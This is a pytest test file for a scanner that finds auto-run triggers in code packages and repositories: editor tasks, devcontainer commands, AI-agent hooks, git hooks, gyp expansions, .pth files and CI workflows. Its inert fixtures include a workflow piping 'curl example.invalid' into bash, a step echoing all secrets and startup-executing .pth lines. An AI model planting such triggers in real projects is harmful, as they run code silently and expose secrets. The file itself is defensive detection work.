"""Hand-written, inert trigger files: the commands name example.invalid only."""

# ruff: noqa: E501
import json
from typing import Any

import pytest

from darnel.features import triggers
from darnel.features.metadata.model import Metadata
from darnel.features.roles import Role
from darnel.features.taxonomy import CATEGORY
from darnel.features.triggers import TriggerFacts


def dump(value: Any) -> bytes:
    return json.dumps(value, indent=1).encode()


HOOKS = {"SessionStart": [{"hooks": [{"type": "command", "command": "node .x/setup.mjs"}]}]}
NAMESPACE = (
    b"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
    b"*('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
    b"m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder."
    b"find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));"
    b"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"
)


@pytest.mark.parametrize(
    ("path", "data", "apis", "commands"),
    [
        (
            ".vscode/tasks.json",
            b'{ // c\n"tasks": [{"label": "x", "command": "node", "args": ["a b.js"],\n"runOptions": {"runOn": "folderOpen"}},]}',
            ["editor:folder-open"],
            [("tasks[0]", "shell", b"node 'a b.js'", Role.STARTUP)],
        ),
        (".vscode/tasks.json", dump({"tasks": [{"command": "make"}]}), [], [("tasks[0]", "shell", b"make", Role.SUPPORT)]),
        ("a/.vscode/settings.json", dump({"task.allowAutomaticTasks": "on"}), ["editor:automatic-tasks"], []),
        (
            ".devcontainer/devcontainer.json",
            dump({"initializeCommand": ["curl", "example.invalid"], "postCreateCommand": {"a": "make"}}),
            ["devcontainer:initialize"],
            [
                ("initializeCommand", "shell", b"curl example.invalid", Role.STARTUP),
                ("postCreateCommand.a", "shell", b"make", Role.STARTUP),
            ],
        ),
        (
            ".claude/settings.json",
            dump({"hooks": HOOKS}),
            ["agent:hook"],
            [("hook[0]", "shell", b"node .x/setup.mjs", Role.STARTUP)],
        ),
        (
            ".gemini/settings.json",
            dump({"mcpServers": {"a b": {"command": "npx", "args": ["-y", "x"]}}}),
            ["agent:mcp"],
            [("mcp.a_b", "shell", b"npx -y x", Role.STARTUP)],
        ),
        (
            ".codex/config.toml",
            b'[mcp_servers.a]\ncommand = "npx"\n',
            ["agent:mcp"],
            [("command[0]", "shell", b"npx", Role.STARTUP)],
        ),
        (".git/hooks/post-checkout", b"#!/usr/bin/env python3\nx", ["git:hook"], [("", "python", b"#!/usr/bin/env python3\nx", Role.STARTUP)]),
        (".git/hooks/pre-push.sample", b"x", [], []),
        (".git/config", b"[core]\n\tfsmonitor = ./run.sh\n", ["git:fsmonitor"], [("fsmonitor", "shell", b"./run.sh", Role.STARTUP)]),
        (
            "binding.gyp",
            b"{'targets': [{'sources': ['<!(node setup.js && echo a.c)', '<!@(node -p \"require(\\'node-addon-api\\').include\")']}]}",
            ["gyp:expansion"],
            [("expansion[0]", "shell", b"node setup.js && echo a.c", Role.INSTALL)],
        ),
        (
            "binding.gyp",
            b"'<!@(pkg-config flac --cflags-only-I | sed s/-I//g)', '<!(pkg-config flac | sh)'",
            ["gyp:expansion"],
            [("expansion[0]", "shell", b"pkg-config flac | sh", Role.INSTALL)],
        ),
        (
            "deps/a.gyp",
            b"'<!(node setup.js)'",
            ["gyp:expansion"],
            [("expansion[0]", "shell", b"node setup.js", Role.SUPPORT)],
        ),
        (
            "evil.pth",
            b"./x\nimport os; os.getcwd()\n" + NAMESPACE,
            ["python:pth"],
            [("line2", "python", b"import os; os.getcwd()", Role.STARTUP)],
        ),
        ("x-nspkg.pth", NAMESPACE + b";import evil", ["python:pth"], [("line1", "python", NAMESPACE + b";import evil", Role.STARTUP)]),
        ("sitecustomize.py", b"pass", ["python:customize"], []),
        (".npmrc", b"registry=https://registry.npmjs.org/\nnode-options=--require ./x.js\n", ["config:code"], []),
        (".npmrc", b"@corp:registry=https://npm.example.invalid\n", ["config:registry"], []),
        (
            ".github/workflows/x.yml",
            b"on: push\nsteps:\n - run: curl example.invalid | bash\n - run: echo ${{ toJSON(secrets) }}\n",
            ["workflow:piped", "workflow:all-secrets"],
            [],
        ),
        ("src/app.py", b"import os", [], []),
        ("x.zip!/evil.pth", b"import os", [], []),
    ],
)  # fmt: skip
def test_families(path: str, data: bytes, apis: list[str], commands: list[tuple[Any, ...]]) -> None:
    facts = triggers.inspect(path, data)
    seen = facts.observations if facts else ()
    assert [o.api for o in seen] == apis
    assert all(o.behaviour in CATEGORY and o.line >= 1 for o in seen)
    assert [(e.label, e.language, e.code, e.role) for e in (facts.embedded if facts else ())] == commands


def inspected(path: str, data: bytes) -> TriggerFacts:
    facts = triggers.inspect(path, data)
    assert facts is not None
    return facts


def test_lines() -> None:
    data = dump({"a": 1, "hooks": HOOKS})
    assert inspected(".claude/settings.json", data).embedded[0].line == 1 + data[: data.index(b'"node .x')].count(b"\n")
    assert inspected(".github/workflows/x.yml", b"a\nb\n x: ${{ toJSON(secrets) }}").observations[0].line == 3


def test_values() -> None:
    files = {
        "a.pth": b"import x",
        "b.pth": NAMESPACE,
        ".claude/settings.json": dump({"hooks": HOOKS}),
        "binding.gyp": b"<!(sh a.sh)",
    }
    facts = [f for path, data in files.items() if (f := triggers.inspect(path, data))]
    assert triggers.trigger_values(facts, [*files, "CLAUDE.md", "tests/conftest.py"]) == {
        "trigger.interpreter": 1,
        "trigger.agents": 1,
        "trigger.gyp": 1,
        "trigger.families": 3,
        "trigger.startup_commands": 2,
        "trigger.install_commands": 1,
        "trigger.customary": 1,
        "trigger.agent_prose": 1,
        "shape.trigger_files": 4,
        "shape.conftest": 1,
    }
    names = {column.name for column in triggers.COLUMNS}
    assert set(triggers.trigger_values(facts, files)) <= names


HOSTILE = [
    b"",
    b"\xff\xfe\x00",
    b"[" * 100_000,
    b'{"hooks":' * 50_000,
    b"<!(" * 300_000,
    b"<!((((" * 100_000 + b")",
    b'{"tasks": {"tasks": {"tasks": 1}}, "hooks": [[[]]], "mcpServers": {"a": {"command": {}, "args": 3}}}',
    b'{"tasks": [1, null, {"command": [1, {}], "args": {"a": 1}, "runOptions": 3}], "settings": []}',
    b"import " * 200_000,
    b"curl " * 200_000,
    b"registry" * 100_000,
    b"'action': [" * 50_000,
    b"//" + b"a" * 500_000 + b":_auth",
    b"\n" * 500_000 + b"command =",
]


@pytest.mark.parametrize("data", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_trigger_files(data: bytes) -> None:
    for path in (
        ".vscode/tasks.json", ".vscode/settings.json", "x.code-workspace", ".devcontainer.json", ".claude/settings.json", ".codex/config.toml",
        ".git/config", ".git/hooks/x", "binding.gyp", "x.pth", ".npmrc", ".github/workflows/x.yml",
    ):  # fmt: skip
        facts = triggers.inspect(path, data)
        assert facts is not None
        assert len(facts.embedded) <= 400


def test_roles_of_a_pypi_release() -> None:
    meta = Metadata(
        name="my-thing",
        entry_targets=("thing.cli", "bin/run"),
        install_targets=("setup.py", "_build", "hook.py"),
        backend_paths=("_build", "hook.py"),
    )
    expected = {
        "setup.py": Role.INSTALL,
        "_build/x.py": Role.INSTALL,
        "hook.py": Role.INSTALL,
        "a.pth": Role.STARTUP,
        "sitecustomize.py": Role.STARTUP,
        ".vscode/tasks.json": Role.STARTUP,
        "src/thing/__init__.py": Role.ENTRY,
        "src/thing/cli.py": Role.ENTRY,
        "my_thing.py": Role.ENTRY,
        "thing-1.data/scripts/x": Role.ENTRY,
        "bin/run": Role.ENTRY,
        "thing/__main__.py": Role.ENTRY,
        "thing/deep/mod.py": Role.MODULE,
        "thing/native.so": Role.MODULE,
        "vendored/setup.py": Role.MODULE,
        "tests/__init__.py": Role.TEST,
        "thing/tests/test_a.py": Role.TEST,
        "conftest.py": Role.TEST,
        "docs/conf.py": Role.SUPPORT,
        "examples/a.py": Role.SUPPORT,
        "noxfile.py": Role.SUPPORT,
        "README.md": Role.SUPPORT,
        "pyproject.toml": Role.CONFIG,
        "PKG-INFO": Role.CONFIG,
        ".github/workflows/a.yml": Role.CONFIG,
        "thing/logo.png": Role.DATA,
        "x.zip!/setup.py": Role.DATA,
    }
    assert triggers.roles(expected, "pypi", meta) == expected


def test_roles_of_an_npm_release() -> None:
    meta = Metadata(name="x", entry_targets=("lib", "cli.js", "dist/*.js"), install_targets=("scripts/post.js",))
    expected = {
        "package.json": Role.CONFIG,
        "scripts/post.js": Role.INSTALL,
        "binding.gyp": Role.INSTALL,
        "lib/index.js": Role.ENTRY,
        "cli.js": Role.ENTRY,
        "dist/a.js": Role.ENTRY,
        "index.js": Role.ENTRY,
        "lib/util.js": Role.MODULE,
        "build/Release/x.node": Role.MODULE,
        "lib/a.test.js": Role.TEST,
        "__tests__/a.js": Role.TEST,
        "gulpfile.js": Role.SUPPORT,
        "webpack.config.js": Role.SUPPORT,
        "scripts/release.js": Role.SUPPORT,
        "lib/data.bin": Role.DATA,
    }
    assert triggers.roles(expected, "npm", meta) == expected
    assert triggers.roles(expected, "unknown", meta) == expected


@pytest.mark.parametrize(
    ("path", "manifest", "role"),
    [
        ("postinstall.js", False, Role.INSTALL),
        ("package/preinstall.cjs", False, Role.INSTALL),
        ("postinstall.js", True, Role.MODULE),
        ("lib/postinstall.js", False, Role.MODULE),
    ],
)
def test_without_a_manifest_a_hook_is_known_by_its_name(path: str, manifest: bool, role: Role) -> None:
    paths = [path, *(["package.json"] if manifest else [])]
    assert triggers.roles(paths, "npm", Metadata(name="x"))[path] == role


def test_every_family_gives_its_column() -> None:
    assert [c.name for c in triggers.COLUMNS[: len(triggers.TRIGGERS)]] == [
        f"trigger.{t.family}" for t in triggers.TRIGGERS
    ]
